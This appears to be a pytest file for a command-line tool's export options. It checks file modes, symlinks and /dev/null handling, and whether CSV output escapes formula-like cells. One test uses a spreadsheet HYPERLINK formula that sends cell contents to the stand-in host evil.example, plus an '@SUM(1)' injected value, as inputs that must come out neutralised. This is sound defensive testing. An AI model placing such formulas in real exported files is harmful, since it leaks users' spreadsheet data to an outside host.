"""Every `-o FILE` keeps the file's mode and symlinks, and writes /dev/null in place (subprocess)."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

from tests.cli.conftest import CliRunner

pytestmark = pytest.mark.skipif(os.name != "posix", reason="modes, symlinks, /dev/null")

EXPORTS = [
    ("releases", "export"),
    ("history", "export"),
    ("kb", "export"),
]


@pytest.mark.parametrize("command", EXPORTS, ids=lambda c: " ".join(c))
def test_export_over_a_0644_file_through_a_symlink(
    run_cli: CliRunner, tmp_path: Path, command: tuple[str, str]
) -> None:
    real = tmp_path / "team" / "out.data"
    real.parent.mkdir()
    real.write_text("old\n")
    real.chmod(0o644)
    link = tmp_path / "out.data"
    link.symlink_to(real)
    proc = run_cli(*command, "-o", str(link))
    assert proc.returncode == 0, proc.stderr
    assert link.is_symlink() and os.readlink(link) == str(real)
    assert real.read_text() != "old\n"  # written (an empty history exports nothing)
    assert stat.S_IMODE(real.stat().st_mode) == 0o644


@pytest.mark.parametrize(
    "command", [*EXPORTS, ("draft", "--format", "eml")], ids=lambda c: " ".join(c)
)
def test_dev_null_stays_a_character_device(
    run_cli: CliRunner, tmp_path: Path, command: tuple[str, ...]
) -> None:
    before = os.stat("/dev/null")
    ticket = tmp_path / "t.txt"
    ticket.write_text("Prefect worker crash after upgrade to 3.4.7\n")
    args = (*command, str(ticket)) if command[0] == "draft" else command
    proc = run_cli(*args, "-o", "/dev/null")
    assert proc.returncode == 0, proc.stderr
    after = os.stat("/dev/null")
    assert stat.S_ISCHR(after.st_mode)
    assert (after.st_ino, after.st_rdev) == (before.st_ino, before.st_rdev)


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Prefect worker crash")'


def test_history_and_batch_csv_never_start_a_formula(run_cli: CliRunner, tmp_path: Path) -> None:
    import csv
    import json

    ticket = tmp_path / "t.txt"
    ticket.write_text(FORMULA + "\nworker pod crashes after helm upgrade to 3.4.7\n")
    assert run_cli("triage", str(ticket)).returncode == 0
    batch_in = tmp_path / "in.jsonl"
    batch_in.write_text(json.dumps({"id": "@SUM(1)", "text": FORMULA}) + "\n")
    batch = run_cli("batch", str(batch_in), "--format", "csv", "-o", str(tmp_path / "b.csv"))
    assert batch.returncode == 0, batch.stderr
    proc = run_cli("history", "export", "-o", str(tmp_path / "h.csv"))
    assert proc.returncode == 0, proc.stderr
    for name in ("h.csv", "b.csv"):
        with open(tmp_path / name, newline="", encoding="utf-8") as fh:
            cells = [c for row in csv.reader(fh) for c in row]
        assert any(c.startswith("'=HYPERLINK") or c == "'@SUM(1)" for c in cells), name
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], name
